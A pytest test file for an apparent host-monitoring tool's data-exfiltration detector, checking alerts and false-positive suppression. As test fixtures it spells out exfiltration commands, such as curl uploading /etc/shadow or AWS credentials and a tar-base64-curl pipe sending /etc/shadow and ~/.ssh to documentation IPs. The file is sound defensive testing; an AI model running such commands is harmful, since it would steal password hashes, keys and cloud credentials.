"""data_exfil: sensitive read -> outbound connection; archive piped to a network tool."""

from __future__ import annotations

from detector_factories import (alerts, connect, execve, init, login_shell, open_file, proc,
                                run, sec, sh_c)

from vigil.detectors.data_exfil import DataExfilDetector, DataExfilParams
from vigil.detectors.process_identity import AgentIdentity
from vigil.priority import Priority


def test_shadow_read_then_curl_in_same_process_fires() -> None:
    shell = login_shell()
    curl = proc("/usr/bin/curl", "-F", "f=@/etc/shadow", "https://x.example", pid=600,
                parent=shell)
    dets = run(DataExfilDetector(), [open_file(curl, "/etc/shadow", ts=sec(0)),
                                     connect(curl, "198.51.100.9", 443, ts=sec(1))])
    assert len(alerts(dets)) == 1
    d = dets[0]
    assert d.rule_id == "data_exfil.read_then_connect"
    assert d.priority == Priority.CRITICAL
    assert d.entity.ip == "198.51.100.9" and d.entity.path == "/etc/shadow"
    assert "T1041" in d.tags and [e.type for e in d.evidence] == ["openat", "connect"]


def test_script_reading_credentials_then_curling_is_one_lineage() -> None:
    """`cat ~/.aws/credentials` and `curl` are two children of the same script."""
    script = proc("/usr/bin/bash", "/home/alice/sync.sh", pid=700, uid=1000,
                  parent=login_shell())
    cat = proc("/usr/bin/cat", "/home/alice/.aws/credentials", pid=701, uid=1000, parent=script)
    curl = proc("/usr/bin/curl", "-d", "@-", "http://203.0.113.50/u", pid=702, uid=1000,
                parent=script)
    dets = run(DataExfilDetector(), [
        open_file(cat, "/home/alice/.aws/credentials", ts=sec(0)),
        connect(curl, "203.0.113.50", 80, ts=sec(2))])
    assert [d.rule_id for d in alerts(dets)] == ["data_exfil.read_then_connect"]
    assert "cat" in dets[0].output and "curl" in dets[0].output
    assert dets[0].data["category"] == "cloud_credentials"


def test_connection_after_the_window_does_not_count() -> None:
    curl = proc("/usr/bin/curl", pid=600, parent=login_shell())
    det = DataExfilDetector(DataExfilParams(window_seconds=30))
    dets = run(det, [open_file(curl, "/etc/shadow", ts=sec(0)),
                     connect(curl, "198.51.100.9", 443, ts=sec(31))])
    assert dets == []


def test_unrelated_process_connecting_is_not_linked() -> None:
    shell = login_shell()
    cat = proc("/usr/bin/cat", pid=601, parent=shell)
    other = proc("/usr/bin/curl", pid=900, parent=init())
    dets = run(DataExfilDetector(), [open_file(cat, "/etc/shadow", ts=sec(0)),
                                     connect(other, "198.51.100.9", 443, ts=sec(1))])
    assert dets == []


def test_loopback_dns_and_failed_connections_are_not_outbound() -> None:
    curl = proc("/usr/bin/curl", pid=600, parent=login_shell())
    dets = run(DataExfilDetector(), [
        open_file(curl, "/etc/shadow", ts=sec(0)),
        connect(curl, "127.0.0.1", 8080, ts=sec(1)),
        connect(curl, "10.0.0.2", 53, ts=sec(1), proto="udp"),
        connect(curl, "198.51.100.9", 443, ts=sec(1), res=-111)])
    assert dets == []


def test_one_detection_per_read() -> None:
    curl = proc("/usr/bin/curl", pid=600, parent=login_shell())
    dets = run(DataExfilDetector(), [open_file(curl, "/etc/shadow", ts=sec(0))] + [
        connect(curl, "198.51.100.9", 443, ts=sec(1 + i)) for i in range(5)])
    assert len(dets) == 1


def test_fp1_compiler_reading_system_paths_is_judged_by_its_binary() -> None:
    """A make recipe `cc -I/usr/include -L/usr/lib/gcc/ main.c; curl -O ...`: cc reads
    headers and a test key fixture, then the same recipe fetches. Audited, not alerted."""
    make = proc("/usr/bin/make", "test", pid=800, uid=1000, parent=login_shell())
    recipe = sh_c("cc -I/usr/include -L/usr/lib/gcc/ main.c; curl -O https://deps.example/x",
                  parent=make, pid=801)
    cc = proc("/usr/bin/cc", "-I/usr/include", "-L/usr/lib/gcc/", "main.c", pid=802,
              uid=1000, parent=recipe)
    fetch = proc("/usr/bin/curl", "-O", "https://deps.example/x", pid=803, uid=1000,
                 parent=recipe)
    dets = run(DataExfilDetector(), [
        execve(recipe, ts=sec(0)),
        open_file(cc, "/usr/include/stdio.h", ts=sec(0.1)),
        open_file(cc, "/usr/lib/gcc/x86_64-linux-gnu/12/include/stddef.h", ts=sec(0.1)),
        open_file(cc, "/home/alice/proj/tests/certs/server.key", ts=sec(0.5)),
        connect(fetch, "198.51.100.20", 443, ts=sec(2))])
    assert len(dets) == 1 and alerts(dets) == []
    assert dets[0].suppressed.layer == "static"
    assert dets[0].suppressed.entry == "data_exfil.build_tools=cc"
    assert dets[0].entity.path == "/home/alice/proj/tests/certs/server.key"


def test_fp1_true_positive_curl_after_shadow_still_fires_with_compiler_words() -> None:
    """Words of a compiler in argv do not make curl a compiler."""
    curl = proc("/usr/bin/curl", "-I/usr/include", "-L/usr/lib/gcc/", "-T", "/etc/shadow",
                "ftp://203.0.113.9/", pid=600, parent=login_shell())
    dets = run(DataExfilDetector(), [open_file(curl, "/etc/shadow", ts=sec(0)),
                                     connect(curl, "203.0.113.9", 21, ts=sec(1))])
    assert len(alerts(dets)) == 1


def test_compiler_copied_to_tmp_is_not_trusted() -> None:
    fake = proc("/tmp/cc", pid=600, parent=login_shell())
    dets = run(DataExfilDetector(), [open_file(fake, "/etc/shadow", ts=sec(0)),
                                     connect(fake, "203.0.113.9", 443, ts=sec(1))])
    assert len(alerts(dets)) == 1


def test_credential_owner_tool_is_suppressed() -> None:
    aws = proc("/usr/local/bin/aws", "s3", "ls", pid=600, uid=1000, parent=login_shell())
    dets = run(DataExfilDetector(), [
        open_file(aws, "/home/alice/.aws/credentials", ts=sec(0)),
        connect(aws, "52.216.1.1", 443, ts=sec(1))])
    assert len(dets) == 1 and dets[0].suppressed.entry == "data_exfil.credential_owners=aws"


def test_fp4_own_agent_reading_pam_then_sending_alerts_is_suppressed() -> None:
    agent = proc("/usr/bin/python3", "/usr/local/bin/vigil", "run", pid=4242,
                 parent=init())
    det = DataExfilDetector(own=AgentIdentity(pid=4242, uid=0))
    dets = run(det, [open_file(agent, "/etc/pam.d/sshd", ts=sec(0)),
                     connect(agent, "149.154.167.220", 443, ts=sec(1))])
    assert len(dets) == 1
    assert dets[0].suppressed.entry == "data_exfil.own_process=4242"
    other = proc("/usr/bin/python3", "-c", "x", pid=5000, parent=login_shell())
    dets = run(det, [open_file(other, "/etc/pam.d/sshd", ts=sec(2)),
                     connect(other, "149.154.167.220", 443, ts=sec(3))])
    assert len(alerts(dets)) == 1


def test_public_keys_are_not_secrets() -> None:
    curl = proc("/usr/bin/curl", pid=600, parent=login_shell())
    dets = run(DataExfilDetector(), [open_file(curl, "/home/alice/.ssh/id_ed25519.pub"),
                                     connect(curl, "203.0.113.9", 443, ts=sec(1))])
    assert dets == []


def test_write_only_open_is_not_a_read() -> None:
    curl = proc("/usr/bin/curl", pid=600, parent=login_shell())
    dets = run(DataExfilDetector(), [open_file(curl, "/home/alice/.netrc", flags=0o1),
                                     connect(curl, "203.0.113.9", 443, ts=sec(1))])
    assert dets == []


def test_extra_sensitive_paths_param() -> None:
    curl = proc("/usr/bin/curl", pid=600, parent=login_shell())
    det = DataExfilDetector(DataExfilParams.from_dict(
        {"extra_sensitive_paths": ["/srv/secrets/"]}))
    dets = run(det, [open_file(curl, "/srv/secrets/db.txt"),
                     connect(curl, "203.0.113.9", 443, ts=sec(1))])
    assert len(alerts(dets)) == 1 and dets[0].data["category"] == "configured"


def test_archive_piped_to_network_tool_fires() -> None:
    sh = sh_c("tar czf - /etc/shadow /home/alice/.ssh | base64 | curl -d @- http://203.0.113.9",
              parent=login_shell(), pid=610)
    dets = run(DataExfilDetector(), [execve(sh)])
    assert [d.rule_id for d in alerts(dets)] == ["data_exfil.archive_pipe"]
    assert dets[0].priority == Priority.CRITICAL and dets[0].entity.path == "/etc/shadow"


def test_words_in_a_pipeline_are_not_binaries() -> None:
    """`echo tar | grep curl` mentions the tools but runs neither."""
    shell = login_shell()
    dets = run(DataExfilDetector(), [
        execve(sh_c("echo tar czf | grep curl", parent=shell, pid=611)),
        execve(sh_c("curl -s http://x | tar xz", parent=shell, pid=612)),  # download, unpack
        execve(sh_c("cc -I/usr/include -L/usr/lib/gcc/ main.c", parent=shell, pid=613))])
    assert dets == []


def test_editing_credentials_then_using_their_tool_is_suppressed() -> None:
    """`vim ~/.aws/credentials`, then `aws s3 ls` from the same shell."""
    shell = login_shell()
    vim = proc("/usr/bin/vim.basic", "/home/alice/.aws/credentials", pid=601, uid=1000,
               parent=shell)
    aws = proc("/usr/local/bin/aws", "s3", "ls", pid=602, uid=1000, parent=shell)
    curl = proc("/usr/bin/curl", "-T", "-", "http://203.0.113.9", pid=603, uid=1000,
                parent=shell)
    dets = run(DataExfilDetector(), [
        open_file(vim, "/home/alice/.aws/credentials", ts=sec(0)),
        connect(aws, "52.216.1.1", 443, ts=sec(20))])
    assert len(dets) == 1 and dets[0].suppressed.entry == "data_exfil.credential_owners=aws"
    # the same edit followed by curl is not excused
    dets = run(DataExfilDetector(), [
        open_file(vim, "/home/alice/.aws/credentials", ts=sec(0)),
        connect(curl, "203.0.113.9", 80, ts=sec(20))])
    assert len(alerts(dets)) == 1
